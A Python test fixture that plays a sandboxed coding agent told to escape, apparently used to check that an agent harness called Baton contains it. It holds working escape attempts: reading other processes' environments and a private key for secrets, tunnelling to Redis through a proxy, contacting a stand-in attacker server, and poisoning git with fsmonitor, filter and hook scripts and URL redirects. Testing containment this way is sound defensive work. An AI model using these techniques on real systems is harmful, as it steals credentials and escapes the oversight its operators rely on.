"""An agent told by its issue to break out: it tries every escape, then does the work.

Run by the `command` adapter. Its brief carries one line of JSON after `escape: `
naming what an attacker would look for: the App's key file, Redis's and the web
process's ports, Baton's data directory, a server of the attacker's, and a marker
path on the host that only a process outside the sandbox could create.

It writes `escapes.json` into its worktree: one entry per attempt, whether it got
through and what it saw. Baton commits and pushes that file with the fix, so the
test reads from the pull request exactly what the agent managed.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path

Attempt = Callable[[dict[str, str]], tuple[bool, str]]


def environ_of_every_process(target: dict[str, str]) -> tuple[bool, str]:
    """Read each visible process's environment, looking for the worker's secrets."""
    seen = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            text = (entry / "environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
        seen.append(entry.name)
        for name in ("GITHUB_WEBHOOK_SECRET", "GITHUB_PRIVATE_KEY_PATH", "REDIS_URL"):
            if name in text:
                return True, f"pid {entry.name} has {name}"
    return False, f"visible pids: {seen}"


def parent_environ(target: dict[str, str]) -> tuple[bool, str]:
    """Read the environment of the worker by its pid on the host."""
    try:
        text = Path(f"/proc/{target['worker_pid']}/environ").read_bytes().decode(errors="replace")
    except OSError as exc:
        return False, str(exc)
    return "GITHUB_WEBHOOK_SECRET" in text, "read the worker's environ"


def key_file(target: dict[str, str]) -> tuple[bool, str]:
    try:
        text = Path(target["key_path"]).read_text()
    except OSError as exc:
        return False, str(exc)
    return "PRIVATE KEY" in text, "read the key file"


def data_dir(target: dict[str, str]) -> tuple[bool, str]:
    """List Baton's mirrors and read any mirror's config."""
    try:
        mirrors = list((Path(target["data_dir"]) / "mirrors").rglob("config"))
    except OSError as exc:
        return False, str(exc)
    return bool(mirrors), f"mirror configs: {[str(m) for m in mirrors]}"


def dot_env(target: dict[str, str]) -> tuple[bool, str]:
    try:
        return True, Path(target["env_file"]).read_text()[:40]
    except OSError as exc:
        return False, str(exc)


def tcp(port_key: str) -> Attempt:
    def attempt(target: dict[str, str]) -> tuple[bool, str]:
        try:
            with socket.create_connection(("127.0.0.1", int(target[port_key])), timeout=3):
                return True, f"connected to 127.0.0.1:{target[port_key]}"
        except OSError as exc:
            return False, str(exc)

    return attempt


def redis_through_proxy(target: dict[str, str]) -> tuple[bool, str]:
    """Ask the proxy, if there is one, for a tunnel to Redis on the host's loopback."""
    proxy = os.environ.get("HTTPS_PROXY")
    if not proxy:
        return False, "no proxy in this sandbox"
    host, _, port = proxy.removeprefix("http://").partition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=3) as conn:
            conn.sendall(f"CONNECT 127.0.0.1:{target['redis_port']} HTTP/1.1\r\n\r\n".encode())
            answer = conn.recv(200).decode(errors="replace")
    except OSError as exc:
        return False, str(exc)
    return answer.startswith("HTTP/1.1 200"), answer.splitlines()[0] if answer else "no answer"


def attacker_server(target: dict[str, str]) -> tuple[bool, str]:
    """Reach the attacker's own server directly, or through the proxy."""
    try:
        url = target["attacker_url"] + "/direct"  # the test's own http:// server
        with urllib.request.urlopen(url, timeout=3) as reply:  # noqa: S310
            return True, f"answered {reply.status}"
    except OSError as exc:
        return False, str(exc)


def poison_git(target: dict[str, str]) -> tuple[bool, str]:
    """Leave git settings that would run or redirect Baton's own git if it honoured them."""
    marker = target["host_marker"]
    hook = Path(".git/baton-escape.sh")
    hook.write_text(f"#!/bin/sh\ntouch {marker}\ncat\n")
    hook.chmod(0o755)
    git = ["git", "config"]
    subprocess.run([*git, f"url.{target['attacker_url']}/.insteadOf", "http://"], check=True)
    subprocess.run([*git, "--global", f"url.{target['attacker_url']}/.insteadOf", "http://"])
    subprocess.run([*git, "core.fsmonitor", str(hook.resolve())], check=True)
    subprocess.run([*git, "filter.escape.clean", str(hook.resolve())], check=True)
    subprocess.run([*git, "filter.escape.smudge", str(hook.resolve())], check=True)
    Path(".gitattributes").write_text("* filter=escape\n")
    Path(".git/hooks").mkdir(exist_ok=True)
    for name in ("pre-commit", "post-commit", "pre-push", "reference-transaction"):
        (Path(".git/hooks") / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (Path(".git/hooks") / name).chmod(0o755)
    # The mirror's own config, if it could be found and written.
    mirrors = Path(target["data_dir"]) / "mirrors"
    try:
        for config in mirrors.rglob("config"):
            config.write_text(config.read_text() + f'[url "{target["attacker_url"]}/"]\n')
            return True, f"wrote {config}"
    except OSError as exc:
        return False, f"set its own git config; the mirror: {exc}"
    alternates = Path(".git/objects/info/alternates").read_text().strip()
    try:
        (Path(alternates) / "baton-escape").write_text("x")
    except OSError as exc:
        return False, f"set its own git config; the mirror's objects: {exc}"
    return True, f"wrote into {alternates}"


def symlink_outputs(target: dict[str, str]) -> tuple[bool, str]:
    """Point the result file, and Baton's logs beside it, at an endless device.

    Whether the logs' links landed on the host only the host can tell: the test
    looks there. Here it is enough that the worker still reads what it must.
    """
    result = Path(os.environ["BATON_RESULT"])
    result.unlink(missing_ok=True)
    result.symlink_to("/dev/zero")
    made = []
    for name in ("stderr.log", "transcript.log"):
        try:
            link = result.parent.parent / name
            link.unlink(missing_ok=True)
            link.symlink_to("/dev/zero")
            made.append(str(link))
        except OSError as exc:
            made.append(f"{name}: {exc}")
    return False, f"linked the result file and {made} to /dev/zero"


def signal_worker(target: dict[str, str]) -> tuple[bool, str]:
    try:
        os.kill(int(target["worker_pid"]), 0)
    except OSError as exc:
        return False, str(exc)
    return True, "the worker's pid answers"


ATTEMPTS: dict[str, Attempt] = {
    "environ of every process": environ_of_every_process,
    "environ of the worker": parent_environ,
    "signal the worker": signal_worker,
    "App key file": key_file,
    "Baton's data directory": data_dir,
    ".env": dot_env,
    "Redis on loopback": tcp("redis_port"),
    "Redis through the proxy": redis_through_proxy,
    "baton web on loopback": tcp("web_port"),
    "sandbox GitHub on loopback": tcp("github_port"),
    "attacker's server": attacker_server,
    "git settings for Baton's git": poison_git,
    "result and logs linked to /dev/zero": symlink_outputs,
}


def main() -> int:
    brief = Path(os.environ["BATON_BRIEF"]).read_text()
    line = next(line for line in brief.splitlines() if line.startswith("escape: "))
    target = json.loads(line.removeprefix("escape: "))
    report = {}
    for name, attempt in ATTEMPTS.items():
        try:
            escaped, detail = attempt(target)
        except Exception as exc:  # an attempt that crashes did not get through
            escaped, detail = False, f"{type(exc).__name__}: {exc}"
        report[name] = {"escaped": escaped, "detail": detail[:500]}
    report["environment"] = {"escaped": False, "detail": json.dumps(dict(os.environ))}
    Path("escapes.json").write_text(json.dumps(report, indent=2) + "\n")
    Path("greeting.txt").write_text("hello\n")
    print("tried every escape; fixed the greeting")
    return 0


if __name__ == "__main__":
    sys.exit(main())
